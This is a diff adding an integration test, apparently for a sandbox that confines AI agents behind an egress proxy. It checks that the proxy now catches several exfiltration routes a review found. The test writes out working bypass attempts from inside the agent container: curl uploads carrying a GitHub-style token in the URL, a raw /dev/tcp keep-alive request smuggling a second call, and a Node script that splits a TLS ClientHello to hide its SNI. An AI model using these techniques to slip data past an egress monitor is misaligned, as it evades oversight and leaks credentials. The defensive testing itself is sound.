@@ -1,0 +1,176 @@
+/**
+ * Ways past the egress proxy a review found, tried from inside a real agent against
+ * the real proxy: a chunked body over the DLP limit (which used to skip the scan, URL
+ * and headers included), a second request on a kept plain-HTTP connection (which used
+ * to be piped unscanned), a ClientHello split across TLS records (whose SNI used to
+ * parse as nothing, and pass), and a credential echoed in a response header or a binary
+ * body (which used to be scrubbed from text bodies only).
+ */
+
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { $, captureRaw } from "../../lib/shell.ts";
+import { runBotBottle, tempDir } from "../helpers.ts";
+import { dockerTest } from "../integration/docker.ts";
+import { buildCaEnv, startUpstream } from "../integration/upstream.ts";
+
+const KEY = `sk-ant-api03-${crypto.randomUUID()}-proxy-test`;
+
+/** A node script replaying a real ClientHello (naming SNI) split into 10-byte records. */
+const SPLIT_HELLO = `
+const net = require("net"), tls = require("tls");
+const [proxyHost, proxyPort] = process.env.HTTPS_PROXY.replace("http://", "").split(":");
+const [, , connectTo, sni] = process.argv;
+// Capture a real ClientHello naming \`sni\` from a local listener.
+const sink = net.createServer((s) => s.once("data", (hello) => {
+  s.destroy(); sink.close();
+  const body = hello.subarray(5, 5 + hello.readUInt16BE(3));
+  const parts = [];
+  for (let i = 0; i < body.length; i += 10) {
+    const part = body.subarray(i, i + 10);
+    parts.push(Buffer.from([0x16, 3, 1, part.length >> 8, part.length & 255]), part);
+  }
+  const c = net.connect(Number(proxyPort), proxyHost, () => c.write("CONNECT " + connectTo + " HTTP/1.1\\r\\n\\r\\n"));
+  let phase = 0;
+  c.on("data", (d) => {
+    if (phase++ === 0) { for (const p of parts) c.write(p); setTimeout(() => { console.log("open-after-hello"); process.exit(0); }, 3000); }
+    else { console.log("server-answered"); process.exit(0); }
+  });
+  c.on("close", () => { console.log("closed"); process.exit(0); });
+})).listen(0, "127.0.0.1", () => {
+  tls.connect({ port: sink.address().port, host: "127.0.0.1", servername: sni }).on("error", () => {});
+});
+`;
+
+dockerTest("the proxy scans what framing, keep-alive and split records used to hide", async (t) => {
+  await using upstream = await startUpstream(
+    ["api.anthropic.com", "plain.fake.test", "pinned.fake.test", "denied.fake.test"],
+    "ok",
+  );
+  await using dir = await tempDir();
+  await Deno.writeTextFile(
+    join(dir.path, "bot-bottle.yaml"),
+    `
+bottles:
+  dev:
+    egress:
+      allow: [plain.fake.test]
+      passthrough: [pinned.fake.test]
+      allow_private: ["${upstream.subnet}"]
+      routes:
+        - host: api.anthropic.com
+          headers:
+            x-api-key: { env: ANTHROPIC_API_KEY }
+agents:
+  claude:
+    bottle: dev
+`,
+  );
+  const env = {
+    ANTHROPIC_API_KEY: KEY,
+    BOT_BOTTLE_EGRESS_NETWORK: upstream.network,
+    BOT_BOTTLE_UPSTREAM_CA: upstream.caFile,
+    ...(await buildCaEnv()),
+  };
+  const up = await runBotBottle(["up", "claude"], { cwd: dir.path, env });
+  assert.equal(up.code, 0, up.stderr);
+  const name = up.stdout.trim();
+  const sh = (script: string) =>
+    captureRaw(
+      $`docker exec --user 1000:1000 ${`bot-bottle-${name}-agent`} bash -c ${script}`,
+      "3m",
+    );
+  const log = async () =>
+    (await runBotBottle(["logs", name, "--format", "json"], { env })).stdout.trim().split("\n")
+      .map((l) => JSON.parse(l));
+  const reached = async (path: string) =>
+    (await upstream.received()).some((r) => String(r.path) === path);
+  const token = "ghp_" + "Zq8Lr2Xv9Kt4Wm7Pn3Bc6Hd1Fj5Gs0Ya8Ue2";
+  try {
+    await t.step(
+      "a chunked body over the limit is refused, and its URL is scanned first",
+      async () => {
+        const big = await sh(
+          "head -c 34000000 /dev/zero > /tmp/big && " +
+            "curl -sS -o /dev/null -w '%{http_code}' -X POST -H 'Transfer-Encoding: chunked' " +
+            `--data-binary @/tmp/big 'https://api.anthropic.com/upload-big' ; echo; ` +
+            "curl -sS -o /dev/null -w '%{http_code}' -X POST -H 'Transfer-Encoding: chunked' " +
+            `--data-binary @/tmp/big 'https://api.anthropic.com/upload-tok?t=${token}'`,
+        );
+        assert.deepEqual(big.stdout.trim().split("\n"), ["413", "403"], big.stderr);
+        assert.ok(!(await reached("/upload-big")) && !(await reached("/upload-tok")));
+        const entries = await log();
+        assert.ok(entries.some((e) => e.action === "deny" && /over 33554432 bytes/.test(e.reason)));
+        assert.ok(entries.some((e) => e.action === "dlp-block" && e.path === "/upload-tok"));
+      },
+    );
+
+    await t.step("a second request on a kept plain-HTTP connection is scanned too", async () => {
+      const proxy = "${HTTPS_PROXY#http://}";
+      const r = await sh(
+        `p=${proxy}; exec 3<>/dev/tcp/\${p%:*}/\${p#*:}; ` +
+          "printf 'GET http://plain.fake.test/first HTTP/1.1\\r\\nHost: plain.fake.test\\r\\n\\r\\n" +
+          `GET http://plain.fake.test/second?t=${token} HTTP/1.1\\r\\nHost: plain.fake.test\\r\\n\\r\\n' >&3; ` +
+          "timeout 5 cat <&3",
+      );
+      assert.match(
+        r.stdout,
+        /^HTTP\/1\.1 200 OK[\s\S]*plain hello[\s\S]*HTTP\/1\.1 403 Forbidden[\s\S]*GitHub token/,
+      );
+      assert.ok(await reached("/first"), "the first request went");
+      assert.ok(!(await reached("/second")), "the second, carrying a token, did not");
+    });
+
+    await t.step("a ClientHello split across records still has its SNI checked", async () => {
+      await sh(`cat > /tmp/split.js <<'JS'\n${SPLIT_HELLO}\nJS`);
+      const fronted = await sh("node /tmp/split.js pinned.fake.test:443 denied.fake.test");
+      assert.match(fronted.stdout, /closed/, fronted.stderr);
+      const intercepted = await sh("node /tmp/split.js plain.fake.test:443 denied.fake.test");
+      assert.match(intercepted.stdout, /closed/, intercepted.stderr);
+      const honest = await sh("node /tmp/split.js pinned.fake.test:443 pinned.fake.test");
+      assert.match(honest.stdout, /server-answered|open-after-hello/, honest.stderr);
+      const entries = await log();
+      const fronting = entries.filter((e) =>
+        e.action === "deny" && /TLS names "denied\.fake\.test"/.test(e.reason ?? "")
+      );
+      assert.deepEqual(fronting.map((e) => e.host).toSorted(), [
+        "pinned.fake.test",
+        "plain.fake.test",
+      ]);
+      assert.ok(entries.some((e) => e.action === "tunnel" && e.host === "pinned.fake.test"));
+    });
+
+    await t.step(
+      "a credential echoed in a header, a cookie or a binary body is scrubbed",
+      async () => {
+        const r = await sh(
+          "curl -sS -D /tmp/h -o /tmp/b https://api.anthropic.com/echo-everywhere && cat /tmp/h && od -c /tmp/b | head -5 && grep -c sk-ant /tmp/b",
+        );
+        assert.ok(!r.stdout.includes(KEY), r.stdout);
+        assert.match(r.stdout, /x-echo: \[redacted by bot-bottle\]/i);
+        assert.match(r.stdout, /set-cookie: session=\[redacted by bot-bottle\]/i);
+        assert.ok((await log()).some((e) => e.action === "scrub"));
+      },
+    );
+
+    await t.step("a passthrough host is tunnelled unscanned, as the plan says", async () => {
+      const plan = await runBotBottle(["plan", "claude"], { cwd: dir.path, env });
+      assert.match(plan.stdout, /pinned\.fake\.test {2}\(passthrough: tunnelled unscanned\)/);
+      await sh(`cat /usr/local/share/ca-certificates/*.crt > /dev/null`);
+      const ca = await Deno.readFile(upstream.caFile);
+      await captureRaw(
+        $`docker exec -i --user 1000:1000 ${`bot-bottle-${name}-agent`} sh -c ${"cat > /tmp/fake-ca.crt"}`
+          .stdin(ca),
+      );
+      const r = await sh(
+        `curl -sS --cacert /tmp/fake-ca.crt -X POST --data 'token=${token}' https://pinned.fake.test/echo`,
+      );
+      assert.match(r.stdout, /ghp_/, "the body was not scanned: the fake echoed it");
+      assert.ok(
+        (await log()).some((e) => e.action === "tunnel" && e.reason === "passthrough: not scanned"),
+      );
+    });
+  } finally {
+    await runBotBottle(["down", name], { env });
+  }
+});
